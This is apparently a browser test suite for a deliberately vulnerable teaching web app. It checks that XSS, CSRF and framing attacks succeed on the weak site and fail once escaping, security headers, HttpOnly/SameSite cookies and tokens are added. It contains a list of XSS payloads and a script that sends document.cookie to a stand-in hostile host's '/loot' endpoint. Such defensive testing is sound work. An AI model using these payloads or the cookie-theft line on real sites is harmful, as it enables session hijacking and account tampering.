"""The weak site in a real browser: what is written into pages runs, forms of others are sent; mended, it is not so."""

from __future__ import annotations

import re
from urllib.parse import quote

import pytest

from netlab.apps.weak import ALL, HostileSite, Visitor, WeakSite

pytestmark = pytest.mark.browser

BOB = ("bob@ticker.example", "sunshine")
FIRE = "window.fired = (window.fired || 0) + 1"
PAYLOADS = [
    f"<script>{FIRE}</script>",
    f"<SCRIPT>{FIRE}</SCRIPT>",
    f"</p><script>{FIRE}</script>",
    f'<img src=x onerror="{FIRE}">',
    f'<svg/onload="{FIRE}">',
    f'<svg><animate onbegin="{FIRE}" attributeName=x dur=1s>',
    f'<input autofocus onfocus="{FIRE}">',
    f'<details open ontoggle="{FIRE}">',
    f'<body onpageshow="{FIRE}">',
    '<iframe srcdoc="&lt;script&gt;parent.fired = 1&lt;/script&gt;"></iframe>',
    '<iframe src="javascript:parent.fired = 1"></iframe>',
]
FIRED = "() => window.fired > 0"


@pytest.fixture(scope="module")
def weak():
    with WeakSite() as site:
        yield site


@pytest.fixture(scope="module")
def mended():
    with WeakSite([name for name in ALL if name != "tries"]) as site:
        yield site


@pytest.fixture(scope="module")
def escaped():
    """Escapes, and no headers: does the one suffice without the other?"""
    with WeakSite(["quote", "notes", "span"]) as site:
        yield site


@pytest.fixture(scope="module")
def with_policy():
    """Headers, and no escapes."""
    with WeakSite(["headers"]) as site:
        yield site


@pytest.fixture
def page(browser):
    context = browser.new_context()
    yield context.new_page()
    context.close()


def settled(page):
    """Wait until whatever could have run has had its turn: images have failed, frames are there, two frames drawn."""
    page.wait_for_load_state("load")
    page.evaluate(
        """() => new Promise(done => {
            const images = [...document.images].map(each => each.decode().catch(() => 0));
            Promise.all(images).then(() => requestAnimationFrame(() => requestAnimationFrame(done)));
        })"""
    )
    return page.evaluate("window.fired || 0")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_is_reflected_runs_at_the_weak_site_alone(page, weak, escaped, with_policy, mended, payload):
    path = f"/quote?ticker={quote(payload)}"
    page.goto(weak.url + path)
    page.wait_for_function(FIRED)
    for site in (escaped, with_policy, mended):
        page.goto(site.url + path)
        assert settled(page) == 0
    page.goto(mended.url + path)
    assert payload.splitlines()[0] in page.locator("main").text_content(), "it is there, as text"


def log_in(page, site):
    page.goto(site.url + "/log-in")
    page.get_by_label("Mail address").fill(BOB[0])
    page.get_by_label("Password").fill(BOB[1])
    page.get_by_role("button", name="Log in").click()
    page.get_by_text("Hello, Bob").wait_for()


def test_what_is_kept_runs_for_who_reads_it_later(browser, weak, mended):
    for site, runs in ((weak, True), (mended, False)):
        writer, reader = browser.new_context(), browser.new_context()
        page = writer.new_page()
        log_in(page, site)
        page.goto(site.url + "/notes")
        page.get_by_label("Note").fill(PAYLOADS[3])
        page.get_by_role("button", name="Write").click()
        page.wait_for_load_state("load")
        other = reader.new_page()
        other.goto(site.url + "/notes")
        if runs:
            other.wait_for_function(FIRED)
        else:
            assert settled(other) == 0
        writer.close()
        reader.close()


def test_a_script_of_the_page_runs_what_stands_behind_the_hash(page, weak, escaped, with_policy, mended):
    """The server never sees it: a fragment is not sent."""
    attack = "/span#" + quote(f'<img src=x onerror="{FIRE}">')
    page.goto(weak.url + attack)
    page.wait_for_function(FIRED)
    for site in (escaped, with_policy, mended):
        page.goto(site.url + attack)
        assert settled(page) == 0
    page.goto(mended.url + "/span#1y")
    page.reload()  # only what stands behind the hash has changed: no page was loaded
    assert page.locator("#span").text_content() == "1y"
    assert not [line for line in weak.log if "onerror" in str(line) and "/span" in str(line)]


def test_a_script_reads_the_cookie_unless_it_is_http_only(browser):
    steal = "<script>new Image().src = '{}/loot?' + document.cookie</script>"
    for mended, seen in (((), True), (("sessions",), False)):
        with WeakSite(mended) as site, HostileSite() as hostile:
            context = browser.new_context()
            page = context.new_page()
            log_in(page, site)
            with page.expect_response(re.compile("/loot")):
                page.goto(f"{site.url}/quote?ticker={quote(steal.format(hostile.url))}")
            assert ("weak_session" in str(hostile.loot)) is seen
            context.close()


@pytest.mark.parametrize(
    ("mended", "from_a_port", "from_elsewhere"),
    [((), True, True), (("sessions",), True, False), (("phone",), False, False), (ALL, False, False)],
    ids=["weak", "SameSite alone", "a token", "mended"],
)
def test_a_hostile_page_changes_the_phone(browser, mended, from_a_port, from_elsewhere):
    """Another port is another origin, and the same site: SameSite lets it through. Another name is another site."""
    with WeakSite(mended) as site, HostileSite(f"{site.url}/phone", {"phone": "changed"}) as hostile:
        for url, happens in ((hostile.url, from_a_port), (hostile.elsewhere, from_elsewhere)):
            context = browser.new_context()
            page = context.new_page()
            log_in(page, site)
            with page.expect_response(lambda response: response.request.method == "POST"):
                page.goto(url)
            page.wait_for_load_state("load")
            page.goto(f"{site.url}/phone")
            assert (page.locator("#phone").text_content() == "changed") is happens, url
            paper = Visitor().log_in(site.url, *BOB)
            paper.open(url)
            assert (">changed<" in paper.open(f"{site.url}/phone")) is happens, (
                "the browser on paper does the same"
            )
            page.get_by_label("Phone").fill("+12025550102")
            page.get_by_role("button", name="Change").click()
            page.get_by_text("+12025550102").wait_for()
            context.close()


def test_two_ports_share_their_cookies(page, weak):
    """RFC 6265, section 8.5: cookies do not provide isolation by port."""
    log_in(page, weak)
    with HostileSite() as hostile:
        page.goto(hostile.url)
        assert "weak_session" in page.evaluate("document.cookie")


def test_a_page_of_another_origin_cannot_be_read(page, weak):
    """The same-origin policy: a token in a page is safe from the page of another origin."""
    with HostileSite() as hostile:
        page.goto(hostile.url + "/loot")
        told = page.evaluate("url => fetch(url).then(r => r.text()).catch(e => e.name)", weak.url + "/phone")
    assert told == "TypeError"


def test_a_frame_around_the_mended_site_stays_empty(page, weak, mended):
    with HostileSite() as hostile:
        for site, shown in ((weak, True), (mended, False)):
            page.goto(hostile.url + "/loot")
            page.evaluate("url => { document.body.innerHTML = `<iframe src=${url}></iframe>` }", site.url)
            frame = page.wait_for_selector("iframe").content_frame()
            frame.wait_for_load_state("load")
            assert ("Weak Ticker" in frame.title()) is shown
